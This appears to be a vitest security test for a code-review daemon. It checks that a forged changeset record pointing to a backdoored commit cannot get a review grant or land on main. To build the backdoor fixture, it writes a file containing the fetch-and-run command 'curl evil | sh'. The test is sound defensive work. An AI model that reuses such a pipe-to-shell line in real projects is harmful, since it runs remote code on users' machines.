import { execFileSync } from 'node:child_process';
import { writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import type { LaneOpSpec } from '../../src/core/lane-state.js';
import { newAskId } from '../../src/core/workflow.js';
import { newChangesetId } from '../../src/core/asks.js';
import { writeOp } from '../../src/core/write-op.js';
import { sh } from '../helpers/temp-repo.js';
import { AGENT, asksOf, endEachTest, OWNER, served } from './harness.js';

const t = endEachTest();
const MALLORY = 'mallory@example.com';
const gitIn = (dir: string, args: string[], input = '') =>
  execFileSync('git', args, { cwd: dir, encoding: 'utf8', input }).trim();

// A changeset's review vouches for what its reviewer read, the ref's diff; landing checks the
// ref against the commit the changeset was proposed as. A replica's forged answer recorded a
// commit (a backdoor, child of the commit the ref named) the ref only fast-forwarded to after a
// grant of the harmless diff, and it landed (re-review of the changeset pin, HIGH). A grant now
// needs the ref to name the proposed commit. Real daemon over HTTP, the forged record written as
// a replica's op would fold.

describe('a review is granted only of the commit the changeset was proposed as', () => {
  it('refuses the grant while the ref names another commit than the recorded one; nothing lands', async () => {
    const s = (t.s = await served());
    // main gets a second commit R (so R has one parent): what the reviewer will be shown.
    writeFileSync(join(s.dir, 'README.md'), '# demo\n\nbenign already-landed change\n');
    sh(s.dir, '-c', 'user.name=o', '-c', 'user.email=o@example.com', 'commit', '-qam', 'benign');
    const R = sh(s.dir, 'rev-parse', 'main');
    // C_evil: child of R adding BACKDOOR.sh.
    const blob = gitIn(s.dir, ['hash-object', '-w', '--stdin'], 'curl evil | sh\n');
    const tree = gitIn(
      s.dir,
      ['mktree'],
      `${gitIn(s.dir, ['ls-tree', R])}\n100755 blob ${blob}\tBACKDOOR.sh\n`,
    );
    const evil = gitIn(s.dir, ['commit-tree', tree, '-p', R, '-m', 'evil']);

    const m = await s.as(MALLORY);
    await m('lane_propose', { lane_id: 'mlane', title: 'Mallory lane' });
    const posted = await m('ask_post', { lane_id: 'mlane', kind: 'work', title: 'Readme' });
    const askId = (posted.ask as { ask_id: string }).ask_id;
    await m('ask_claim', { lane_id: 'mlane', ask_id: askId });
    const csId = newChangesetId();
    // Her replica's record: the answer names evil as the commit; the ref (synced) names R.
    const repo = s.daemon.repos.get(s.repoKey)!;
    await writeOp(
      repo,
      { actor: MALLORY },
      repo.lane('mlane'),
      {},
      {
        tool: 'ask_answer',
        request: {},
        decide: (): LaneOpSpec => ({
          op: 'ask_answer',
          summary: `ask_answer ${askId}: complete`,
          args: {
            lane_id: 'mlane',
            ask_id: askId,
            outcome: 'complete',
            result: null,
            changeset: { base: R, message: 'readme', paths: ['README.md'] },
          },
          out: { changeset_id: csId, changeset_commit: evil, follow_ups: [newAskId()] },
        }),
        result: (_s, op) => op,
      },
    );
    sh(s.dir, 'update-ref', `refs/zz/changesets/${csId}`, R);

    await s.owner('lane_grant', { lane_id: 'mlane', grantee: OWNER, role: 'maintainer' });
    await s.owner('lane_grant', { lane_id: 'mlane', grantee: AGENT, role: 'coordinator' });
    // The reviewer looks at the changeset as zz shows it: the ref's diff (R's).
    const shown = await s.owner('git_diff', { commit: `refs/zz/changesets/${csId}` });
    expect(JSON.stringify(shown)).not.toContain('BACKDOOR');
    const review = (await asksOf(s, 'mlane')).find((a) => a.kind === 'changeset_review')!;
    await s.owner('ask_claim', { lane_id: 'mlane', ask_id: review.ask_id });
    await expect(
      s.owner('ask_answer', {
        lane_id: 'mlane',
        ask_id: review.ask_id,
        outcome: 'grant',
        result: 'ok',
      }),
    ).rejects.toMatchObject({
      code: 'precondition_failed',
      message: expect.stringMatching(
        /now names commit .* not .* proposed and reviewed; .*: what a reviewer reads/,
      ),
    });
    // Sync fast-forwards the ref R -> evil: the record matches now, but no review was granted.
    sh(s.dir, 'update-ref', `refs/zz/changesets/${csId}`, evil, R);
    expect((await asksOf(s, 'mlane')).filter((a) => a.kind === 'submit_changeset')).toHaveLength(0);
    expect(sh(s.dir, 'ls-tree', '--name-only', 'main')).not.toContain('BACKDOOR.sh');
  });
});
